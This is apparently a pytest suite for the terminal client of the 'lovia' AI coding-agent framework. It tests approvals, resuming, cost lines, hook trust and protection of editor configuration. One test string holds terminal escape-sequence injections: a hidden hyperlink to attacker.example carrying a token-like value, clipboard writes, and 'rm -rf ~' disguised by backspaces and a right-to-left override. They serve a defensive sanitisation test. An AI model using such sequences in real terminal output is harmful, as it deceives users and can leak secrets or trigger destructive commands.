"""``lovia chat``: the terminal client over the real server."""

import asyncio
import os
import re
import signal
import subprocess
import sys
import textwrap

import pytest

from lovia_server.chat.terminal_chat import ChatSession
from lovia_server.chat.terminal_view import Terminal

CHAT = [sys.executable, "-m", "lovia.cli", "chat"]


def _env(tmp_path, **extra):
    env = {k: v for k, v in os.environ.items() if k not in ("LOVIA_MODEL", "OPENAI_API_KEY")}
    env["XDG_STATE_HOME"] = str(tmp_path / "xdg")
    env["NO_COLOR"] = "1"
    env.update(extra)
    return env


def test_demo_runs_offline_and_edits_with_an_approved_diff(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "README.md").write_text("# my project\n\nsome text\n")
    proc = subprocess.run(
        [*CHAT, "--demo", "--yes", "--workspace", str(ws)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    out = proc.stdout
    assert "demo model (offline, scripted" in out
    assert "▸ List ." in out and "▸ Read README.md" in out
    assert "? approval needed: Edit README.md" in out
    assert "-# my project" in out and "+# my project — tidied by lovia" in out
    assert "— completed" in out
    assert (ws / "README.md").read_text().startswith("# my project — tidied by lovia\n")
    # The closing text names the terminal's way to pick a model next to the editor's setting.
    assert "`lovia chat --model openai:gpt-4.1-mini` (or `LOVIA_MODEL`) in a terminal" in out


def test_says_once_when_shell_commands_are_not_sandboxed(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "README.md").write_text("# my project\n")
    outs = []
    for extra in ({"LOVIA_SANDBOX_BWRAP": str(tmp_path / "no-bwrap")}, {}):
        proc = subprocess.run(
            [*CHAT, "--demo", "--yes", "--workspace", str(ws)],
            capture_output=True,
            text=True,
            timeout=120,
            env=_env(tmp_path, **extra),
            stdin=subprocess.DEVNULL,
        )
        assert proc.returncode == 0, proc.stdout + proc.stderr
        outs.append(proc.stdout)
    unconfined, sandboxed = outs
    note = "note: Shell commands are not sandboxed on this machine: bubblewrap"
    assert unconfined.count(note) == 1
    from lovia.workspace.sandbox import BubblewrapExecutor

    if BubblewrapExecutor.available():
        assert "not sandboxed" not in sandboxed


def test_says_once_which_instruction_files_are_in_use(tmp_path):
    ws = tmp_path / "ws"
    (ws / ".github" / "instructions").mkdir(parents=True)
    (ws / "README.md").write_text("# my project\n")
    (ws / "AGENTS.md").write_text("Test with make check.\n")
    (ws / ".github" / "instructions" / "ts.instructions.md").write_text(
        '---\napplyTo: "**/*.ts"\n---\nPrefer const.\n'
    )
    proc = subprocess.run(
        [*CHAT, "--demo", "--yes", "--workspace", str(ws)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path, HOME=str(tmp_path / "home")),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    line = "instructions: AGENTS.md, .github/instructions/ts.instructions.md (for **/*.ts)"
    assert proc.stdout.count(line) == 1, proc.stdout


def test_without_a_model_points_at_the_setting_and_the_demo(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    proc = subprocess.run(
        [*CHAT, "--workspace", str(ws), "hello"],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 1
    assert "No model is configured" in proc.stdout and "LOVIA_MODEL" in proc.stdout
    assert "lovia chat --demo" in proc.stdout


def test_non_interactive_rejects_unless_yes(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "README.md").write_text("# title\n")
    proc = subprocess.run(
        [*CHAT, "--demo", "--workspace", str(ws)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0
    assert "approval rejected" in proc.stdout
    assert (ws / "README.md").read_text() == "# title\n"


def test_demo_answer_reacts_to_a_rejection_and_its_reason(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "README.md").write_text("# title\n")
    proc = subprocess.run(
        [*CHAT, "--demo", "--workspace", str(ws)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0
    assert "you rejected my edit to `README.md`, so I left it unchanged" in proc.stdout
    assert "You said: “Rejected: lovia chat was not run interactively" in proc.stdout
    assert "proposed a small edit" not in proc.stdout


WAITING_AGENT = textwrap.dedent(
    """
    import asyncio
    from pathlib import Path
    from lovia import Agent, tool
    from lovia.testing import ScriptedProvider, call, text
    from lovia.transcript import ToolResultEntry

    ROOT = Path(__file__).parent

    @tool
    async def build() -> str:
        "Build; waits for a release file."
        (ROOT / "started").write_text("1")
        while not (ROOT / "release").exists():
            await asyncio.sleep(0.02)
        return "built"

    class Positional(ScriptedProvider):
        async def stream(self, entries, **kw):
            from collections import deque
            done = sum(isinstance(e, ToolResultEntry) for e in entries)
            self.script = deque([call("build", {}, call_id="b1"), text("all built")][done:])
            async for d in super().stream(entries, **kw):
                yield d

    agent = Agent(name="builder", model=Positional([]), tools=[build])
    """
)


def test_an_interrupted_run_can_be_resumed(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "agent.py").write_text(WAITING_AGENT)
    state = tmp_path / "state"
    base = [*CHAT, "--workspace", str(ws), "--agent", "agent.py:agent", "--state-dir", str(state)]
    proc = subprocess.Popen(
        [*base, "build it"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
        env=_env(tmp_path),
        start_new_session=True,
    )
    try:
        for _ in range(600):
            if (ws / "started").exists():
                break
            if proc.poll() is not None:
                break
            asyncio.run(asyncio.sleep(0.05))
        assert (ws / "started").exists(), proc.communicate(timeout=5)
        os.kill(proc.pid, signal.SIGTERM)  # the chat dies; its server sees EOF and interrupts
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    (ws / "release").write_text("go")
    resumed = subprocess.run(
        [*base, "--resume"],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
    assert "resuming run" in resumed.stdout and "all built" in resumed.stdout
    assert "— completed" in resumed.stdout


class FakeClient:
    def __init__(self):
        self.requests = []

    async def request(self, method, params):
        self.requests.append((method, params))
        return {}


@pytest.mark.parametrize("interactive", [True])
async def test_lines_answer_prompts_first_then_steer(interactive):
    import io

    client = FakeClient()
    chat = ChatSession(
        client,
        Terminal(io.StringIO(), color=False),
        auto_approve=False,
        read_line=lambda prompt: asyncio.sleep(0, None),
        interactive=interactive,
    )
    chat.run_id = "r1"
    approval = {
        "kind": "approval.requested",
        "runId": "r1",
        "approvalId": "a1",
        "title": "Run ls",
        "detail": "ls",
        "seq": 3,
    }
    await chat.on_event(approval)
    await asyncio.sleep(0)
    await chat.handle_line("use the staging db")
    await asyncio.sleep(0.01)
    await chat.handle_line("also check the logs")
    assert client.requests[0] == (
        "lovia/approve",
        {
            "runId": "r1",
            "approvalId": "a1",
            "decision": "reject_once",
            "message": "use the staging db",
        },
    )
    assert client.requests[1] == ("lovia/steer", {"runId": "r1", "message": "also check the logs"})


def test_the_finished_line_says_what_the_run_cost_when_known():
    import io

    out = io.StringIO()
    term = Terminal(out, color=False, resume_hint=False)
    usage = {"inputTokens": 1200, "outputTokens": 300}
    term.event({"kind": "run.finished", "runId": "r", "status": "completed", "usage": usage})
    term.event(
        {
            "kind": "run.finished",
            "runId": "r",
            "status": "completed",
            "usage": {**usage, "costUsd": 0.00123},
        }
    )
    term.event(
        {
            "kind": "run.finished",
            "runId": "r",
            "status": "completed",
            "usage": {
                **usage,
                "cacheReadTokens": 985,
                "cacheWriteTokens": 100,
                "costUsd": 0.00123,
                "sessionCostUsd": 0.0312,
            },
        }
    )
    term.event(  # a cache that was only written so far still says so
        {
            "kind": "run.finished",
            "runId": "r",
            "status": "completed",
            "usage": {**usage, "cacheReadTokens": 0, "cacheWriteTokens": 1100},
        }
    )
    assert out.getvalue().splitlines() == [
        "— completed, 1500 tokens",
        "— completed, 1500 tokens, $0.0012",
        "— completed, 1500 tokens, 82% cached, $0.0012 (session $0.0312)",
        "— completed, 1500 tokens, 0% cached",
    ]


def test_lovia_chat_shows_the_cached_share_and_the_cost_of_a_real_run(tmp_path, fake_anthropic):
    from tests.support import fake_anthropic as ant

    ws = tmp_path / "ws"
    ws.mkdir()
    fake_anthropic.script(
        ant.text("Hello.", usage=ant.usage(input=200, output=40, cache_read=1800)),
    )
    proc = subprocess.run(
        [*CHAT, "--model", "anthropic:claude-sonnet-4-5", "--workspace", str(ws), "hi"],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path, **fake_anthropic.env()),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # 200 plain tokens at $3 and 1,800 read at $0.30 per million, 40 out at $15.
    cost = (200 * 3.0 + 1800 * 0.30 + 40 * 15.0) / 1e6
    assert f"— completed, 2040 tokens, 90% cached, ${cost:.4f}" in proc.stdout


# Escape sequences a model (or a file it read, a command it ran) could put into its text: a
# hidden hyperlink (OSC 8), an iTerm2 file transfer (OSC 1337), the clipboard (OSC 52), a DCS,
# screen and line erases, cursor moves, 8-bit CSI/OSC, backspaces, a carriage return that
# overwrites the line, and a right-to-left override.
HOSTILE = (
    "see \x1b]8;;https://attacker.example/?d=sk-1\x07the docs\x1b]8;;\x07 "
    "\x1b]1337;File=name=eA==;inline=1:eA==\x07\x1b]52;c;ZWNobyBwd25lZA==\x1b\\"
    "\x1bP+q544e\x1b\\\x1b[2J\x1b[H\x1b[1A\x1b[2K\x9b2J\x9d8;;https://attacker.example/\x9c"
    "rm -rf ~\x08\x08\x08\x08\x08\x08\x08ls    \rnothing to see \u202eexe.txt"
)

HOSTILE_AGENT = textwrap.dedent(
    f"""
    from lovia import Agent, tool
    from lovia.testing import ScriptedProvider, call, text

    HOSTILE = {HOSTILE!r}


    @tool
    def fetch_notes() -> str:
        "Notes."
        return HOSTILE


    agent = Agent(
        name="hostile",
        model=ScriptedProvider(
            [call("fetch_notes", {{}}, call_id="n1"), text(HOSTILE, reasoning=HOSTILE)],
            record=False,
        ),
        tools=[fetch_notes],
    )
    """
)


def test_model_text_cannot_drive_the_terminal():
    import io

    out = io.StringIO()
    term = Terminal(out, color=True)
    for piece in (HOSTILE[:7], HOSTILE[7:40], HOSTILE[40:]):  # a sequence cut between chunks
        term.event({"kind": "message.delta", "messageId": "m", "text": piece})
    term.event({"kind": "tool.call", "toolCallId": "c", "title": HOSTILE})
    term.event({"kind": "tool.update", "toolCallId": "c", "output": {"text": HOSTILE}})
    shown = out.getvalue()
    # Only lovia's own colours are left (ESC [ <digits> m), and newlines.
    rest = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", rest)
    assert "the docs" in rest and "rm -rf ~ls" in rest and "nothing to see" in rest


def test_lovia_chat_prints_no_escape_sequence_from_the_model(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "agent.py").write_text(HOSTILE_AGENT)
    proc = subprocess.run(
        [*CHAT, "--yes", "--workspace", str(ws), "--agent", "agent.py:agent", "go"],
        capture_output=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    out = proc.stdout.decode("utf-8", errors="replace")
    assert proc.returncode == 0, out + proc.stderr.decode(errors="replace")
    assert "▸ fetch_notes" in out and "the docs" in out
    # NO_COLOR: lovia prints no escape of its own, so any control character came from the model.
    found = re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)
    assert found == [], sorted(set(found))


ESCALATING_AGENT = textwrap.dedent(
    """
    from lovia import Agent
    from lovia.testing import ScriptedProvider, call, text

    agent = Agent(
        name="escalator",
        model=ScriptedProvider([
            call("write_file", {"path": ".vscode/settings.json", "content": "{}"}, call_id="w1"),
            call("write_file", {"path": "notes.txt", "content": "ok"}, call_id="w2"),
            text("done"),
        ]),
    )
    """
)


def test_yes_never_approves_a_change_to_editor_configuration(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "agent.py").write_text(ESCALATING_AGENT)
    proc = subprocess.run(
        [*CHAT, "--agent", "agent.py:agent", "--yes", "--workspace", str(ws), "go"],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "alters agent or editor configuration" in proc.stdout
    assert not (ws / ".vscode").exists()
    assert (ws / "notes.txt").read_text() == "ok"  # an ordinary edit is still approved by --yes


def test_a_tool_result_shows_its_first_lines_and_how_many_more(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "README.md").write_text("# my project\n\ntext\n")
    for i in range(1, 7):
        (ws / f"a{i}.txt").write_text("x\n")
    proc = subprocess.run(
        [*CHAT, "--demo", "--yes", "--workspace", str(ws)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    listed = proc.stdout.split("▸ List .\n", 1)[1].split("▸", 1)[0].splitlines()
    assert listed == [
        "  ✓ README.md  (19 bytes)",
        "    a1.txt  (2 bytes)",
        "    a2.txt  (2 bytes)",
        "    a3.txt  (2 bytes)",
        "    a4.txt  (2 bytes)",
        "    … +2 more lines",
    ], proc.stdout
    # The plan's result is not repeated: the plan shows once, as its list.
    assert "  ✓ Updated todo list:\n  [~] Looking around the workspace\n" in proc.stdout


def test_a_refusal_is_shown_whole_wrapped_not_cut():
    import io

    out = io.StringIO()
    reason = "Command refused: " + "the sandbox denies writes outside the workspace; " * 3
    reason += "ask for /tmp/out in lovia.sandbox.writable to allow it"
    Terminal(out, color=False).event(
        {
            "kind": "tool.result",
            "toolCallId": "c",
            "status": "declined",
            "content": [{"type": "text", "text": reason}],
        }
    )
    rows = out.getvalue().splitlines()
    assert len(rows) > 1 and rows[0].startswith("  ⊘ Command refused:")
    assert " ".join(row.strip(" ⊘") for row in rows) == reason.strip()  # every word, in order
    assert "more line" not in out.getvalue()


def test_an_untrusted_chat_runs_only_the_users_hooks(tmp_path, fake_openai):
    import json

    from tests.support import fake_openai as oai

    ws, home = tmp_path / "ws", tmp_path / "home"
    marker = ws / "workspace-hook-ran"
    for folder, command in ((ws, f"touch {marker}; echo WORKSPACE HOOK"), (home, "echo USER HOOK")):
        (folder / ".lovia").mkdir(parents=True)
        hooks = {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": command}]}]}
        (folder / ".lovia" / "hooks.json").write_text(json.dumps({"hooks": hooks}))
    fake_openai.script(oai.text("done"))
    proc = subprocess.run(
        [*CHAT, "--untrusted", "--model", "openai:fake-model", "--workspace", str(ws), "hello"],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path, HOME=str(home), **fake_openai.env()),
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    sent = json.dumps([r.json for r in fake_openai.requests if r.method == "POST"])
    assert "USER HOOK" in sent and "WORKSPACE HOOK" not in sent
    assert not marker.exists()


def test_compact_in_lovia_chat_compacts_the_conversation_now(tmp_path, fake_openai):
    import json

    from lovia.context.prompts import REQUIRED_SECTIONS
    from tests.support import fake_openai as oai

    ws = tmp_path / "ws"
    ws.mkdir()
    summary = "\n".join(f"{s}\nSUMMARY-MARK" for s in REQUIRED_SECTIONS)
    fake_openai.script(oai.text("early answer"), oai.text(summary), oai.text("later answer"))
    proc = subprocess.run(
        [*CHAT, "--model", "openai:fake-model", "--workspace", str(ws)],
        input="EARLY-MESSAGE\n/compact focus-on-x\nwhat next\n",
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(tmp_path, HOME=str(tmp_path / "home"), **fake_openai.env()),
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "Compacted the conversation" in proc.stdout, proc.stdout
    posts = [r.json for r in fake_openai.requests if r.method == "POST"]
    assert len(posts) == 3
    assert "focus-on-x" in json.dumps(posts[1]["messages"])
    later = json.dumps(posts[2]["messages"])
    assert "SUMMARY-MARK" in later and "EARLY-MESSAGE" not in later
